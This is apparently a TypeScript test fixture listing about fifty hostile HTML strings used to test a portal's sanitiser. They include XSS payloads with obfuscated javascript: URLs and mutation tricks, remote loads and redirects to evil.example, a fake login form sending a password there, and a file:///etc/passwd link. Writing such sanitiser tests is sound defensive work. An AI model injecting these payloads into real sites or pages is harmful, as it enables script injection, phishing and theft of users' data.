/** Kinds of HTML by which a text could take over a page, call elsewhere, or imitate the portal. */
export const hostileHtml: Record<string, string> = {
  script: '<script>window.hacked=1</script>',
  'script in capitals': '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  'image handler': '<img src=x onerror=window.hacked=1>',
  'image handler, line breaks': '<img\nsrc\n=\nx\nonerror\n=\nwindow.hacked=1>',
  'image set':
    '<img srcset="https://evil.example/a.png 1x"><picture><source srcset="https://evil.example/b.png"></picture>',
  'image of the own host': '<img src="/api/me">',
  'svg handler': '<svg onload=window.hacked=1></svg>',
  'svg script': '<svg><script>window.hacked=1</script></svg>',
  'svg link': '<svg><a xlink:href="javascript:window.hacked=1"><text y="20">x</text></a></svg>',
  'svg use': '<svg><use href="https://evil.example/x.svg#x"></use></svg>',
  'svg foreign object':
    '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
  'math and style, mutated':
    '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph></table></mtext></math>',
  'noscript, mutated': '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>',
  'form, mutated':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1></style></mglyph></form>',
  'comment that is none': '<!--><img src=x onerror=window.hacked=1>-->',
  'cdata that is none': '<![CDATA[><img src=x onerror=window.hacked=1>]]>',
  'open textarea': '<textarea><img src=x onerror=window.hacked=1></textarea>',
  frame: '<iframe src="https://evil.example"></iframe>',
  'frame with a document': '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  object: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  base: '<base href="https://evil.example/">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'style element': '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/x.png)">x</p>',
  'background attribute':
    '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</td></tr></table>',
  'prefetch by link': '<link rel="prefetch" href="https://evil.example/x">',
  form: '<form action="https://evil.example"><input name=password><button>Anmelden</button></form>',
  'marquee handler': '<marquee onstart=window.hacked=1>x</marquee>',
  'paragraph handler': '<p onclick="window.hacked=1" onmouseover=window.hacked=1>x</p>',
  video:
    '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay onplay=window.hacked=1></video>',
  'link by script': '<a href="javascript:window.hacked=1">x</a>',
  'link by script, capitals': '<a href="JaVaScRiPt:window.hacked=1">x</a>',
  'link by script, entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.hacked=1">x</a>',
  'link by script, tab': '<a href="jav\tascript:window.hacked=1">x</a>',
  'link by script, blank before': '<a href=" \u0001javascript:window.hacked=1">x</a>',
  'link to data': '<a href="data:text/html,<script>window.hacked=1</script>">x</a>',
  'link to a file': '<a href="file:///etc/passwd">x</a>',
  'link without https': '<a href="http://evil.example/">x</a>',
  'link without a scheme': '<a href="//evil.example/">x</a>',
  'link within the portal': '<a href="/administration" target="_self">x</a>',
  'link that pings':
    '<a href="https://www.example.com/" ping="https://evil.example/" download rel="opener">x</a>',
  'area of a map': '<map name=m><area href="javascript:window.hacked=1" shape=default></map>',
  'names that hide the document': '<a id="cookie"></a><img name="getElementById"><form id="body"></form>',
  'id and class of the portal':
    '<div id="content" class="css-1" data-state="open" aria-hidden="true" role="alert">x</div>',
  'custom element': '<x-evil is="x-evil" onclick=window.hacked=1>x</x-evil>',
  template: '<template><img src=x onerror=window.hacked=1></template>',
  'dialog and popover': '<dialog open>x</dialog><p popover id=p>y</p><button popovertarget=p>z</button>',
  'nul and odd characters': '<im\u0000g src=x onerr\u0000or=window.hacked=1>',
  'deeply nested': `${'<div>'.repeat(300)}<img src=x onerror=window.hacked=1>${'</div>'.repeat(300)}`,
}
